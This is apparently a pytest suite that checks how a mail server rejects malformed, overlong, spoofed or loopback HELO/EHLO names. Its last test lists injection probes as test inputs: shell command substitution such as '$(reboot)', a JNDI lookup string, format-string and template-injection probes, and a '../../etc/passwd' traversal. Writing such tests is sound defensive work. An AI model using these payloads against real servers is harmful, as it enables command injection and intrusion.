"""PROTO-01 … PROTO-04: HELO and EHLO with no name, a bad one, one of ours, one that means something to a shell."""

import pytest

SETTINGS = {"listeners": {"inbound": {"proxy_protocol": ["127.0.0.0/8"]}}}


@pytest.mark.parametrize("verb", [b"HELO", b"EHLO"])
def test_proto_01_helo_without_a_name(target, verb):
    with target.connect() as client:
        for argument in (
            b"",
            b" ",
            b"   ",
            b" a b",
            b" " + b"a" * 64 + b".test",
            b" a..test",
            b" .",
            b" -a.test",
            b" a-.test",
        ):
            reply = client.command(verb + argument)
            assert (reply.code, len(reply.lines)) == (501, 1), argument
            assert len(reply.lines[0]) < 80
    target.assert_nothing_passed()


@pytest.mark.parametrize("verb", [b"HELO", b"EHLO"])
def test_proto_01_helo_with_a_name_of_255_octets_and_more(target, verb):
    label = b"a" * 63 + b"."
    with target.connect() as client:
        assert client.command(verb + b" " + (label * 4)[:255].rstrip(b".")).code == 250
        assert client.command(verb + b" " + label * 4 + b"b").code in (500, 501)
        assert client.command(verb + b" " + label * 100).code == 500
        assert client.command(verb + b" after.test").code == 250
    target.assert_nothing_passed()


@pytest.mark.parametrize("verb", [b"HELO", b"EHLO"])
def test_proto_01_helo_of_100_kb_closes(target, verb):
    with target.connect() as client:
        client.send(verb + b" " + b"a" * 100_000 + b"\r\nNOOP\r\n")
        (refused,) = client.remaining()
    assert (refused.code, refused.enhanced) == (500, "5.5.2")
    target.assert_nothing_passed()


@pytest.fixture
def from_outside(attack):
    """Connects as a client of that address, behind a proxy."""
    target = attack(SETTINGS)

    def connect(address: str):
        return target.connect(first=f"PROXY TCP4 {address} 127.0.0.1 40000 25\r\n".encode())

    yield connect
    with connect("192.0.2.99") as client:
        client.ehlo()
        client.envelope()


BAD_LITERALS = [
    b"[1.2.3]", b"[1.2.3.4.5]", b"[256.1.1.1]", b"[1.2.3.4", b"1.2.3.4]", b"[]", b"[ ]", b"[IPv6:zz]", b"[IPv6:]",
    b"[IPv6:1::2::3]", b"[IPv6:fe80::1%eth0]", b"[::1]", b"[IPv6:1.2.3.4]", b"[tag:x]", b"[01.2.3.4]", b"[0x7f.0.0.1]",
    b"[127.1]", b"[2130706433]", b"[1.2.3.4] x", b"[[1.2.3.4]]",
]  # fmt: skip


@pytest.mark.parametrize("verb", [b"HELO", b"EHLO"])
def test_proto_02_a_bad_address_literal(target, verb):
    with target.connect() as client:
        for literal in BAD_LITERALS:
            assert client.command(verb + b" " + literal).code == 501, literal
    target.assert_nothing_passed()


LOOPBACKS = [b"[127.0.0.1]", b"[IPv6:::1]", b"[127.9.9.9]", b"[IPv6:::ffff:127.0.0.1]"]
OUR_NAMES = [b"mx.example.test", b"MX.Example.TEST", b"example.test", b"EXAMPLE.TEST"]


def assert_refused_from_outside(connect, names: list[bytes]) -> None:
    for name in names:
        for verb in (b"EHLO ", b"HELO "):
            with connect("192.0.2.99") as client:
                assert client.command(verb + name).code == 550, name
                assert client.command(b"MAIL FROM:<a@b.test>").code == 503


def test_proto_02_a_loopback_literal_from_outside(from_outside):
    assert_refused_from_outside(from_outside, LOOPBACKS)


def test_proto_03_our_names_and_domains_from_outside(from_outside):
    assert_refused_from_outside(from_outside, OUR_NAMES)


def test_proto_03_our_address_from_outside(from_outside):
    """The address that the listener is bound to, as a literal and without its brackets."""
    assert_refused_from_outside(from_outside, [b"[127.0.0.1]", b"127.0.0.1"])


def test_proto_04_helo_names_that_mean_something_to_a_shell_or_a_template(session):
    for odd in b"%$`\"';|&<>(){}[]\\!*?#~^,=+:@/":
        name = b"a" + bytes([odd]) + b"b.test"
        assert session.command(b"EHLO " + name).code == 501, name
    for name in (
        b"$(reboot)",
        b"${jndi:ldap://x.test}",
        b"%s%n%x",
        b"{{7*7}}",
        b"`id`.test",
        b"a;id",
        b"..",
        b"../../etc/passwd",
    ):
        assert session.command(b"HELO " + name).code == 501, name
